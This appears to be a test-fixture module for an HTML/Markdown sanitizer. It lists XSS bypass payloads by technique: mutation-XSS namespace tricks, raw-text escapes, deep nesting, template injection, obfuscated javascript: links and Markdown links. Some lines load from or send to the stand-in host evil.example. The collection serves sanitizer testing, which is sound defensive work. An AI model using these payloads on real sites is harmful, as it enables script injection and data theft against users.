/** Runs where it is markup. */
export const run = '<img src=x onerror="window.owned=1">'

/** Markup by the ways in which purifiers have been got round. */
export const harmfulMarkup = {
  'namespaces that change on the way': [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.owned=1&gt;">`,
    `<svg></p><style><a id="</style>${run}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${run}`,
    `<math><annotation-xml encoding="text/html"><style>${run}</style></annotation-xml></math>`,
    `<svg><desc><noscript>${run}</noscript></desc><foreignobject><p>${run}</p></foreignobject></svg>`,
  ],
  'texts that are not read': [
    `<noscript><p title="</noscript>${run}">`,
    `<textarea><img title="</textarea>${run}">`,
    `<xmp><p title="</xmp>${run}">`,
    `<title><p title="</title>${run}">`,
    `<noembed><p title="</noembed>${run}"><plaintext>`,
    `<select><template><style><!--</style><a rel="--></style></template></select>${run}">`,
    `<!--><script>window.owned=1</script>--> <!--x--!>${run} <?x ${run}?> <![CDATA[${run}]]>`,
  ],
  nesting: [
    `${'<div>'.repeat(600)}<table><caption>${'<svg><title>'.repeat(20)}<style><a title="</style>${run}">`,
    `${'<font>'.repeat(510)}${run}`,
    `${'<a><table>'.repeat(100)}${run}`,
    `${'> '.repeat(150)}${run}`,
    `${'- '.repeat(150)}${run}`,
  ],
  'templates and prototypes': [
    `{{constructor.constructor('window.owned=1')()}} \${window.owned=1} <%= window.owned=1 %>`,
    `<template><script>window.owned=1</script></template><div is="x-y" ${'data-x="{{'}window.owned=1}}"></div>`,
    '<form id="attributes"><input name="nodeName"><input name="__proto__"></form><a id="constructor" name="prototype">x</a>',
    `<x-y onclick="window.owned=1" autofocus tabindex=0 onfocus=window.owned=1>x</x-y>`,
    `<template shadowrootmode="open">${run}</template>`,
  ],
  links: [
    ...[
      'javascript:window.owned=1',
      'JaVaScRiPt:window.owned=1',
      ' \u0001javascript:window.owned=1',
      'java\tscript:window.owned=1',
    ],
    ...[
      'javascript&colon;window.owned=1',
      '&#106;avascript:window.owned=1',
      'data:text/html,<script>opener.owned=1</script>',
    ],
    ...[
      'vbscript:x',
      'blob:x',
      'file:///etc/passwd',
      'javascript://%0awindow.owned=1',
      'view-source:x',
      'feed:javascript:1',
    ],
  ].map((href) => `<a href="${href}">press</a>`),
  'links in Markdown': [
    '[press](javascript:window.owned=1) [press](<java\nscript:window.owned=1>) [press](JAVASCRIPT&colon;window.owned=1)',
    '[press](https://x.example/"onmouseover="window.owned=1) ![x" onerror="window.owned=1](x)',
    '[press][r]\n\n[r]: javascript:window.owned=1 "x\\" onfocus=window.owned=1"',
    '<javascript:window.owned=1> <https://x.example/"onclick=window.owned=1>',
    '`<img src=x onerror=window.owned=1>` ```html\n<img src=x onerror=window.owned=1>\n```',
  ],
  'what loads or sends': [
    '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css"><style>@import "http://evil.example/x.css"</style>',
    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe><object data="x"></object><embed src="x">',
    '<form action="http://evil.example/"><button formaction="javascript:window.owned=1">press</button></form>',
    '<a href="/about" style="position:fixed;inset:0" ping="http://evil.example/" download="x">press</a>',
    '<video src=x onerror=window.owned=1></video><audio src=x onerror=window.owned=1><details open ontoggle=window.owned=1>',
    '<svg><animate attributeName=href values=javascript:window.owned=1 /><use href="data:image/svg+xml,x"/></svg>',
  ],
}
